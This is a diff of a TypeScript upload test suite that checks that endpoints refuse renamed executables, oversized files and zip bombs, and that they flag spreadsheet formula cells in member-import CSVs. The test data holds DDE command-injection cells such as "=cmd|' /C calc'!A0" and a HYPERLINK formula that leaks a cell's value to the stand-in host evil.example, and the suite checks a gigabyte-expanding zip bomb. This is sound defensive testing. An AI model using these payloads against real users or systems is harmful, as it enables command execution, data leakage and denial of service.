@@ -1,10 +1,22 @@
-import type { EndpointContract, EndpointUpload } from '@compliance/shared-contracts';
+import { inflateRawSync, crc32 } from 'node:zlib';
+import {
+  COMMON_TRANSLATIONS,
+  lookupTranslation,
+  MAX_UPLOAD_BYTES,
+  MEMBER_IMPORT_COLUMNS,
+  type EndpointContract,
+  type EndpointUpload,
+  type MemberImportColumn,
+  type MemberImportReport,
+} from '@compliance/shared-contracts';
 import { buildTestApp, type TestApp } from '../test/build';
 import { signInAll, type TestClient } from '../test/client';
-import { databaseDigest, SWEPT_ENDPOINTS } from './support';
+import { byName, databaseDigest, errorBodyProblem, SWEPT_ENDPOINTS } from './support';
+import { DISGUISED_FILES, multipartBody, MULTIPART_CONTENT_TYPE, streamedFileForm, zipBomb } from './upload-files';
 
-// Uploads, over every contract that takes a file: content that is not what the name says, a
-// file over the limit, a zip bomb where zips are taken, and CSV cells a spreadsheet would run.
+// Uploads, over every contract that takes a file (its `upload`: field, types, size limit):
+// content that is not what the name says, files over the limit, a zip bomb where zips are
+// taken, and CSV cells a spreadsheet would run as formulas.
 
 let t: TestApp;
 let admin: TestClient;
@@ -17,19 +29,35 @@ afterAll(async () => {
   await t.close();
 });
 
-const uploads = SWEPT_ENDPOINTS.filter((endpoint): endpoint is EndpointContract & { upload: EndpointUpload } => endpoint.upload !== undefined);
-const BOUNDARY = 'sweep-upload-boundary';
+type UploadEndpoint = EndpointContract & { upload: EndpointUpload };
+const uploads = SWEPT_ENDPOINTS.filter((endpoint): endpoint is UploadEndpoint => endpoint.upload !== undefined);
 
-function multipart(field: string, filename: string, content: Buffer): Buffer {
-  return Buffer.concat([
-    Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
-    content,
-    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
-  ]);
+/**
+ * Uploads allowed more than the uploader's 5 MB default of SPEC.md §9, each with its reason;
+ * any other upload must keep the default.
+ */
+const LARGER_UPLOADS: Readonly<Record<string, string>> = {
+  'member-import.upload-csv': 'a file of 100,000 members is about 20 MB (SPEC.md §2/§3); the server streams it into chunks',
+};
+
+/** Columns of each CSV upload, so every column is tried with a formula; a new CSV upload must be listed. */
+const CSV_COLUMNS: Readonly<Record<string, readonly string[]>> = {
+  'member-import.upload-csv': MEMBER_IMPORT_COLUMNS,
+};
+
+function sendForm(endpoint: UploadEndpoint, body: Buffer) {
+  return admin.post(endpoint.path, body, { headers: { 'content-type': MULTIPART_CONTENT_TYPE } });
 }
 
-function sendFile(endpoint: EndpointContract & { upload: EndpointUpload }, filename: string, content: Buffer) {
-  return admin.post(endpoint.path, multipart(endpoint.upload.field, filename, content), { headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` } });
+const sendFile = (endpoint: UploadEndpoint, filename: string, content: Buffer) => sendForm(endpoint, multipartBody([{ name: endpoint.upload.field, filename, content }]));
+
+/** Sends a file of `size` bytes, streamed; with its Content-Length, or without (as chunked uploads come). */
+async function sendStreamed(endpoint: UploadEndpoint, filename: string, size: number, withLength: boolean) {
+  const form = streamedFileForm(endpoint.upload.field, filename, size);
+  const response = await admin.post(endpoint.path, form.stream, {
+    headers: { 'content-type': MULTIPART_CONTENT_TYPE, ...(withLength ? { 'content-length': String(form.length) } : {}) },
+  });
+  return { response, bytesRead: form.bytesRead() };
 }
 
 it('every POST without a JSON body declares the upload it takes', () => {
@@ -38,52 +66,146 @@ it('every POST without a JSON body declares the upload it takes', () => {
   expect(uploads.length).toBeGreaterThan(0);
 });
 
-// Executables and archives renamed to a name the endpoint accepts.
-const DISGUISED = {
-  ELF: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(2000, 0)]),
-  'PE (Windows)': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58, 0), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(2000, 0x90)]),
-  zip: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(2000, 0)]),
-};
+it('keeps the 5 MB default limit on every upload but the listed larger ones', () => {
+  const larger = uploads.filter((endpoint) => endpoint.upload.maxBytes !== MAX_UPLOAD_BYTES).map((endpoint) => endpoint.id);
+  expect(larger.sort()).toEqual(Object.keys(LARGER_UPLOADS).sort());
+});
 
-describe.each(uploads.map((endpoint) => [endpoint.path, endpoint] as const))('%s', (_path, endpoint) => {
+it('knows the columns of every CSV upload', () => {
+  const csvUploads = uploads.filter((endpoint) => endpoint.upload.types.includes('csv')).map((endpoint) => endpoint.id);
+  expect(csvUploads.sort()).toEqual(Object.keys(CSV_COLUMNS).sort());
+});
+
+describe.each(byName(uploads))('%s', (_name, endpoint) => {
   const extension = endpoint.upload.types[0] ?? 'csv';
+  const { maxBytes } = endpoint.upload;
 
-  it.each(Object.entries(DISGUISED))(`refuses a renamed %s as .${extension} and stores nothing`, async (_kind, content) => {
+  it.each(Object.entries(DISGUISED_FILES))(`refuses a renamed %s as .${extension} and stores nothing`, async (_kind, content) => {
     const before = await databaseDigest(t.db);
     const response = await sendFile(endpoint, `payroll.${extension}`, content);
-    expect(response.statusCode).toBe(400);
-    expect(response.json()).toEqual({ error: { code: 'File.InvalidType' } });
+    expect({ status: response.statusCode, body: response.json() as unknown }).toEqual({ status: 400, body: { error: { code: 'File.InvalidType' } } });
     expect(await databaseDigest(t.db)).toBe(before);
   });
 
-  it(`refuses a file over its ${endpoint.upload.maxBytes} bytes with 413 and stores nothing`, async () => {
-    // Over the limit, and at least the 6 MB that the 5 MB default of SPEC.md refuses.
-    const size = Math.max(endpoint.upload.maxBytes + 1024 * 1024, 6 * 1024 * 1024);
-    const line = Buffer.from('Anna;Berg;anna.berg\r\n');
-    const content = Buffer.alloc(size, line.toString());
+  const expectTooLarge = async (size: number, withLength: boolean) => {
     const before = await databaseDigest(t.db);
-    const response = await sendFile(endpoint, `large.${extension}`, content);
-    expect(response.statusCode).toBe(413);
-    expect(response.json()).toEqual({ error: { code: 'File.TooLarge' } });
+    const sent = await sendStreamed(endpoint, `large.${extension}`, size, withLength);
+    expect({ status: sent.response.statusCode, body: sent.response.json() as unknown }).toEqual({ status: 413, body: { error: { code: 'File.TooLarge' } } });
     expect(await databaseDigest(t.db)).toBe(before);
+    return sent;
+  };
+
+  // One byte over: only counting the bytes as they come can tell, so this is the streamed path.
+  it(`refuses a file of ${maxBytes + 1} bytes (its limit and one), sent without Content-Length, with 413 and stores nothing`, async () => {
+    await expectTooLarge(maxBytes + 1, false);
   });
 
-  if (endpoint.upload.types.includes('csv')) {
-    it.each(["=cmd|' /C calc'!A0", '+SUM(1,2)', '-2+3', '@SUM(A1)', '=HYPERLINK("http://evil.example","x")'])('reports a formula cell %s as a bad row', async (formula) => {
-      const csv = `firstName;lastName;username;phoneNumber\r\nAnna;Berg;anna.formel;+49 30 1234567\r\n${formula};Berg;bert.formel;\r\n`;
-      const response = await sendFile(endpoint, 'members.csv', Buffer.from(csv));
+  it('refuses a request whose Content-Length is over the limit before reading it', async () => {
+    const size = Math.max(maxBytes + 1024 * 1024, 6 * 1024 * 1024);
+    const { bytesRead } = await expectTooLarge(size, true);
+    expect(bytesRead).toBeLessThan(size / 2);
+  });
+
+  if (maxBytes < 6 * 1024 * 1024) {
+    it('refuses a 6 MB file, sent without Content-Length, with 413 and stores nothing', async () => {
+      await expectTooLarge(6 * 1024 * 1024, false);
+    });
+  }
+
+  if (maxBytes > MAX_UPLOAD_BYTES && endpoint.upload.types.includes('csv')) {
+    it('takes a file over the 5 MB default but within its own limit', async () => {
+      // One long cell keeps the row check short: the size is what is tried here.
+      const content = Buffer.concat([Buffer.from('firstName;lastName;username\r\nAnna;Berg;'), Buffer.alloc(MAX_UPLOAD_BYTES + 1024 * 1024, 'x')]);
+      const response = await sendFile(endpoint, `large.${extension}`, content);
       expect(response.statusCode).toBe(200);
-      const report = response.json() as { validRows: number; invalidRows: number; errors: Array<{ row: number; column: string; code: string }> };
-      expect(report).toMatchObject({ validRows: 1, invalidRows: 1 });
-      expect(report.errors).toEqual([{ row: 3, column: 'firstName', code: 'formulaCell' }]);
     });
   }
 });
 
-// No endpoint takes zips yet. When one does (SCORM packages), this test fails: add a zip-bomb
-// case for it (a small archive that inflates to gigabytes must be refused) and list it here.
-const ZIP_UPLOADS: readonly string[] = [];
+describe('zip bombs', () => {
+  const bomb = zipBomb();
 
-it('knows every endpoint that takes zips, so each gets the zip-bomb case', () => {
-  expect(uploads.filter((endpoint) => endpoint.upload.types.includes('zip')).map((endpoint) => endpoint.id)).toEqual(ZIP_UPLOADS);
+  it('the sweep’s bomb is small and unpacks to a gigabyte', () => {
+    expect(bomb.bytes.length).toBeLessThan(2 * 1024 * 1024);
+    expect(bomb.unpackedBytes).toBeGreaterThanOrEqual(1024 ** 3);
+    // Its first entry really holds what the directory says: 30-byte header, name, deflated data.
+    const nameLength = bomb.bytes.readUInt16LE(26);
+    const packedLength = bomb.bytes.readUInt32LE(18);
+    const unpacked = inflateRawSync(bomb.bytes.subarray(30 + nameLength, 30 + nameLength + packedLength));
+    expect(unpacked.length).toBe(bomb.unpackedBytes / bomb.entries);
+    expect(crc32(unpacked)).toBe(bomb.bytes.readUInt32LE(14));
+  });
+
+  // Every upload that takes zips (none yet; SCORM packages will) gets the bomb, by its contract.
+  for (const endpoint of uploads.filter((upload) => upload.upload.types.includes('zip'))) {
+    it(`${endpoint.method} ${endpoint.path} refuses it with an error code and stores nothing`, async () => {
+      const before = await databaseDigest(t.db);
+      const response = await sendFile(endpoint, 'course.zip', bomb.bytes);
+      expect([400, 413]).toContain(response.statusCode);
+      expect(errorBodyProblem(response)).toBeUndefined();
+      expect(await databaseDigest(t.db)).toBe(before);
+    });
+  }
+});
+
+/** Whether a row problem's code is shown to people: a validation key or an error code, in both languages. */
+function isTranslated(code: string): boolean {
+  return Object.values(COMMON_TRANSLATIONS).every(
+    (translations) => lookupTranslation(translations, `common.validation.${code}`) !== undefined || lookupTranslation(translations, `common.errorCodes.${code}`) !== undefined,
+  );
+}
+
+/** A row every column of which is valid; `+` starts its phone numbers, as they may. */
+const VALID_MEMBER_ROW: Readonly<Record<MemberImportColumn, string>> = {
+  firstName: 'Anna',
+  lastName: 'Berg',
+  email: 'anna.berg@example.com',
+  username: 'anna.berg',
+  role: 'member',
+  birthDate: '1990-01-02',
+  phoneNumber: '+49 30 1234567',
+  mobileNumber: '+49 170 1234567',
+  gender: 'f',
+  street: 'Hauptstraße 1',
+  additionalAddress: 'Hinterhaus',
+  postalCode: '10115',
+  city: 'Berlin',
+  country: 'DE',
+  externalCompany: 'Berg GmbH',
+  orgUnits: '',
+  locations: '',
+  password: '',
+};
+
+/** Columns a formula may stand in, each with its reason: it is never shown or exported. */
+const FORMULA_EXEMPT_COLUMNS: Readonly<Partial<Record<string, string>>> = {
+  password: 'hashed on import (mode byColumn) or ignored; never shown or exported, and a password may start with any character',
+};
+
+const quoteCell = (value: string) => (/[";,\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
+
+describe.each(byName(uploads.filter((endpoint) => CSV_COLUMNS[endpoint.id])))('%s formula cells', (_name, endpoint) => {
+  const columns = (CSV_COLUMNS[endpoint.id] ?? []).filter((column) => !FORMULA_EXEMPT_COLUMNS[column]);
+
+  it.each(["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+9)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"Details")'])(
+    '%s in any column makes its row invalid with a translated key, and the valid row stays valid',
+    async (formula) => {
+      const header = Object.keys(VALID_MEMBER_ROW);
+      const row = (index: number, column?: string) =>
+        header
+          .map((name) => {
+            const value = name === 'username' ? `anna.berg${index}` : name === 'email' ? `anna.berg${index}@example.com` : VALID_MEMBER_ROW[name as MemberImportColumn];
+            return quoteCell(name === column ? formula : value);
+          })
+          .join(';');
+      const csv = [header.join(';'), row(0), ...columns.map((column, index) => row(index + 1, column))].join('\r\n');
+      const response = await sendFile(endpoint, 'members.csv', Buffer.from(csv));
+      expect(response.statusCode).toBe(200);
+      const report = response.json() as MemberImportReport;
+      expect(report.errors.filter((error) => error.row === 2)).toEqual([]);
+      const unflagged = columns.filter((column, index) => !report.errors.some((error) => error.row === index + 3 && error.column === column));
+      expect(unflagged).toEqual([]);
+      expect(report.errors.map((error) => error.code).filter((code) => !isTranslated(code))).toEqual([]);
+    },
+  );
 });
